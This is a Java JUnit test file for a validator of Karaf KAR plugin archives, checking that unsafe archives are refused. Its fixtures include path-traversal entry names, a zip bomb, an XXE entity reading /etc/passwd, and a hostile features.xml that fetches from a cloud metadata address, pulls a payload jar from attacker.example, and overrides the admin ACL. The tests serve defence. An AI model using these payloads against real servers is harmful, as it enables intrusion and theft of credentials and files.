package org.rapport.rest.impl.plugins;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertNull;
import static org.junit.Assert.assertThrows;
import static org.junit.Assert.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import org.junit.Rule;
import org.junit.Test;
import org.junit.rules.TemporaryFolder;
import org.osgi.framework.Version;
import org.rapport.rest.impl.plugins.KarArchive.ApiImport;
import org.rapport.rest.impl.plugins.KarArchive.Contents;
import org.rapport.rest.impl.plugins.KarArchive.KarBundle;

public class KarArchiveTest {

    private static final KarArchive.Limits LIMITS = new KarArchive.Limits(100, 1024 * 1024);

    @Rule
    public TemporaryFolder folder = new TemporaryFolder();

    @Test
    public void aKarsFeaturesAndItsBundlesDeclarationsAreReadWithoutInstallingIt() throws IOException {
        Contents contents = KarArchive.read(file(Kars.referrals().bytes()), LIMITS);

        assertEquals(List.of("referrals"), contents.features());
        KarBundle bundle = contents.bundles().get(0);
        assertEquals("org.rapport.examples.referrals", bundle.symbolicName());
        assertEquals("1.0.0", bundle.version());
        Plugin plugin = bundle.plugin();
        assertEquals("referrals", plugin.name());
        assertEquals("1.0.0", plugin.version());
        assertEquals("Referral programme; a referred customer's first purchase, earns points", plugin.description());
        assertEquals("read", plugin.personalData());
        assertEquals(List.of("sms", "email"), plugin.channels());
        assertEquals(List.of("referrals"), plugin.rulePackages());
        assertEquals(List.of("/api/v1/referrals"), plugin.restPaths());
        assertEquals(List.of(new ApiImport("org.rapport.loyalty.api", "[1.2,2)", false),
                new ApiImport("org.rapport.contacts.api", "[3.0,4)", false),
                new ApiImport("org.rapport.segments.api", "[9,10)", true),
                new ApiImport("org.rapport.examples.referrals", "0.0.0", false)), bundle.imports());
        assertEquals(List.of("org.rapport.examples.referrals"), bundle.exports());
    }

    @Test
    public void aBundleWithoutAPluginCapabilityDeclaresNone() throws IOException {
        byte[] kar = new Kars().entry("repository/x/features.xml", Kars.FEATURES.replace("org.rapport.examples/referrals",
                "com.example/lib")).entry("repository/com/example/lib/1.0.0/lib-1.0.0.jar",
                Kars.bundle("com.example.lib", null, null)).bytes();

        KarBundle bundle = KarArchive.read(file(kar), LIMITS).bundles().get(0);
        assertNull(bundle.plugin());
        assertEquals(List.of(), bundle.imports());
    }

    @Test
    public void entriesThatWouldLeaveTheirFolderAreRefused() throws IOException {
        for (String name : List.of("repository/../../etc/users.properties", "/etc/passwd", "repository/a/../../../x.jar",
                "repository\\..\\x.jar", "C:/windows/x.jar", "repository/./x.xml")) {
            byte[] kar = Kars.referrals().entry(name, "x").bytes();
            String message = refusal(kar);
            assertTrue(name + ": " + message, message.contains("could lead out of its folder"));
        }
    }

    @Test
    public void resourcesWhichKarafCopiesIntoTheServersFoldersAreRefused() throws IOException {
        String message = refusal(Kars.referrals().entry("resources/etc/org.rapport.rest.cfg", "maxRequestBytes = 1").bytes());

        assertTrue(message, message.contains("resources/etc/org.rapport.rest.cfg is under resources/"));
    }

    @Test
    public void aKarThatUnpacksToMoreThanTheLimitIsRefusedWhateverItsHeadersSay() throws IOException {
        // 4 MB of zeros compress to a few kilobytes.
        byte[] kar = Kars.referrals().entry("repository/x/zeros.bin", new byte[4 * 1024 * 1024]).bytes();
        assertTrue("compressed to " + kar.length, kar.length < 64 * 1024);

        String message = refusal(kar);
        assertTrue(message, message.contains("unpacks to more than the limit of " + 1024 * 1024 + " bytes"));
    }

    @Test
    public void aKarWithTooManyEntriesIsRefused() throws IOException {
        Kars kars = Kars.referrals();
        for (int i = 0; i < 100; i++) {
            kars.entry("repository/x/file" + i + ".txt", "x");
        }
        String message = refusal(kars.bytes());
        assertTrue(message, message.contains("more than 100 entries"));
    }

    @Test
    public void whatIsNotAKarIsRefusedSayingWhy() throws IOException {
        assertTrue(refusal("this is not a zip".getBytes()).contains("not a KAR: the file is not a zip archive"));
        assertTrue(refusal(new Kars().entry("repository/x/lib.jar", Kars.bundle("com.example.lib", null, null)).bytes())
                .contains("no features repository"));
        assertTrue(refusal(new Kars().entry("docs/readme.txt", "hi").bytes()).contains("neither under repository/ nor META-INF/"));
        String noManifest = refusal(Kars.referrals().entry("repository/x/plain.jar", new Kars().entry("a.txt", "x").bytes()).bytes());
        assertTrue(noManifest, noManifest.contains("repository/x/plain.jar is not a bundle"));
        String broken = refusal(Kars.referrals().entry("repository/x/broken.xml", "<features><feature name=").bytes());
        assertTrue(broken, broken.startsWith("repository/x/broken.xml:1:"));
        String badHeader = refusal(new Kars().entry("repository/x/features.xml", Kars.FEATURES)
                .entry("repository/x/bad.jar", Kars.bundle("com.example.bad", "org.rapport.plugin; name=\"open", null)).bytes());
        assertTrue(badHeader, badHeader.contains("the manifest of repository/x/bad.jar cannot be read"));
    }

    @Test
    public void aFeaturesRepositoryThatWouldFetchWriteOrReconfigureTheServerIsRefusedAtItsLines() throws IOException {
        String hostile = """
                <?xml version="1.0" encoding="UTF-8"?>
                <features name="evil-1.0.0" xmlns="http://karaf.apache.org/xmlns/features/v1.6.0">
                    <repository>http://169.254.169.254/latest/features.xml</repository>
                    <feature name="evil" version="1.0.0" install="auto">
                        <feature>webconsole</feature>
                        <feature>rapport-loyalty</feature>
                        <feature>evil-own</feature>
                        <bundle>mvn:org.rapport.examples/referrals/1.0.0</bundle>
                        <bundle>http://attacker.example/payload.jar</bundle>
                        <bundle>mvn:com.example/remote/1.0.0</bundle>
                        <config name="org.apache.karaf.command.acl.admin">* = agent</config>
                        <bundle>mvn:com.example/evil-bundle/1.0.0</bundle>
                        <config name="com.example.evil.settings">bonus = 5</config>
                        <configfile finalname="deploy/payload.jar">mvn:com.example/payload/1.0.0</configfile>
                        <conditional><condition>rapport-sales</condition>
                            <library>mvn:com.example/lib/1.0.0</library>
                        </conditional>
                    </feature>
                    <feature name="evil-own" version="1.0.0"/>
                </features>
                """;
        String message = refusal(Kars.referrals().entry("repository/com/example/evil/1.0.0/evil-1.0.0-features.xml", hostile)
                .entry("repository/com/example/evil-bundle/1.0.0/evil-bundle-1.0.0.jar",
                        Kars.bundle("com.example.evil", null, null)).bytes());

        String file = "repository/com/example/evil/1.0.0/evil-1.0.0-features.xml:";
        for (String refused : List.of(file + "3: names the features repository http://169.254.169.254/latest/features.xml",
                file + "5: depends on the feature webconsole", file + "9: the bundle http://attacker.example/payload.jar is "
                        + "not in the KAR", file + "10: the bundle mvn:com.example/remote/1.0.0 is not in the KAR",
                file + "11: sets the configuration org.apache.karaf.command.acl.admin",
                file + "14: writes the file deploy/payload.jar", file + "16: the library mvn:com.example/lib/1.0.0")) {
            assertTrue(refused + " in " + message, message.contains(refused));
        }
        for (String allowed : List.of("rapport-loyalty", "evil-own", "referrals/1.0.0 ", "evil-bundle", "evil.settings")) {
            assertTrue(allowed + " in " + message, !message.contains(allowed));
        }
        assertEquals("nothing else refused", 7, message.split(java.util.regex.Pattern.quote(file), -1).length - 1);
    }

    @Test
    public void anEntityInTheFeaturesRepositoryIsRefused() throws IOException {
        String xxe = "<?xml version=\"1.0\"?><!DOCTYPE f [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                + "<features><feature name=\"&x;\"/></features>";
        String message = refusal(Kars.referrals().entry("repository/x/evil.xml", xxe).bytes());
        assertTrue(message, message.contains("DOCTYPE"));
    }

    @Test
    public void anImportIsSatisfiedOnlyByAnExportInItsRange() {
        Map<String, List<Version>> exported = Map.of("org.rapport.loyalty.api", List.of(Version.parseVersion("1.4.0")));

        assertTrue(ApiVersions.need(new ApiImport("org.rapport.loyalty.api", "[1.2,2)", false), exported).satisfied());
        ApiVersions.Need tooNew = ApiVersions.need(new ApiImport("org.rapport.loyalty.api", "[2.0,3)", false), exported);
        assertEquals(false, tooNew.satisfied());
        assertEquals(List.of("1.4.0"), tooNew.exported());
        assertEquals(false, ApiVersions.need(new ApiImport("org.rapport.nothing.api", "0.0.0", false), exported).satisfied());
        IllegalArgumentException invalid = assertThrows(IllegalArgumentException.class,
                () -> ApiVersions.need(new ApiImport("org.rapport.loyalty.api", "[2,x)", false), exported));
        assertTrue(invalid.getMessage(), invalid.getMessage().contains("invalid version range '[2,x)'"));
    }

    private Path file(byte[] bytes) throws IOException {
        Path file = folder.newFile().toPath();
        Files.write(file, bytes);
        return file;
    }

    private String refusal(byte[] kar) throws IOException {
        Path file = file(kar);
        return assertThrows(IllegalArgumentException.class, () -> KarArchive.read(file, LIMITS)).getMessage();
    }
}
